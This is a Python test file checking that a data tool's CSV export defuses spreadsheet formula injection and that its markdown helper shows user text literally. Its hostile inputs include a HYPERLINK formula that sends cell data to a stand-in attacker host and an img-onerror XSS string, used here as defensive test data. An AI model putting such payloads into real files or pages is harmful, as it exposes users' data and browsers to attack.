"""User text stays text: CSV exports never hand a spreadsheet a formula, markdown shows names literally."""

from __future__ import annotations

import csv

import pandas as pd

from lib.cli import main
from lib.dataset import Dataset
from lib.importers import import_file
from lib.importers.base import SourceFile
from lib.importers.canonical import write_canonical
from lib.safe_text import markdown_literal

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB=1",
           "\r=CR", "'=already quoted", "plain text", "a=b", "![x](http://host/p.png)"]


def _dataset() -> Dataset:
    n = len(HOSTILE)
    posts = pd.DataFrame({"platform": ["facebook"] * n, "account": HOSTILE, "post_id": [f"p{i}" for i in range(n)],
                          "published_at": pd.date_range("2026-01-01", periods=n, freq="D", tz="UTC"), "text": HOSTILE})
    comments = pd.DataFrame({"platform": ["facebook"] * n, "post_id": [f"p{i}" for i in range(n)],
                             "comment_id": [f"c{i}" for i in range(n)], "author_name": HOSTILE,
                             "created_at": pd.date_range("2026-01-02", periods=n, freq="D", tz="UTC"), "text": HOSTILE})
    return Dataset.from_frames(posts=posts, comments=comments)


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in list(csv.reader(fh))[1:] for cell in row]


def test_cli_export_prefixes_formula_cells_and_reads_back_the_same_text(tmp_path):
    src = tmp_path / "in"
    write_canonical(_dataset(), src)
    out = tmp_path / "out"
    assert main(["export", str(src), "-o", str(out)]) == 0
    for name in ("posts.csv", "comments.csv"):
        cells = _cells(out / name)
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert risky == [], f"{name}: {risky}"
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
        assert "'\tTAB=1" in cells and "''=already quoted" in cells and "a=b" in cells
        back = import_file(SourceFile(name, (out / name).read_bytes()))[0].dataset
        table = back.posts if name == "posts.csv" else back.comments
        assert sorted(table["text"].tolist()) == sorted(HOSTILE)  # nothing lost, nothing added
    posts = import_file(SourceFile("posts.csv", (out / "posts.csv").read_bytes()))[0].dataset.posts
    assert sorted(posts["account"].tolist()) == sorted(HOSTILE)


def test_markdown_literal_leaves_no_markup():
    import markdown_it  # Streamlit's frontend renders CommonMark; markdown-it is the same grammar in Python

    md = markdown_it.MarkdownIt("commonmark").enable("table").enable("strikethrough")
    for name in (*HOSTILE, "**bold** _it_ `code` <img src=x onerror=alert(1)>", "[link](http://x)", "# Title",
                 "1. list", "- item", "~~gone~~", "$x^2$", ":red[red] :material/home:", "a\nb\r\nc", "&lt;b&gt;"):
        html = md.render(markdown_literal(name))
        assert html.startswith("<p>") and html.count("<") == 2, (name, html)  # one paragraph, no other element
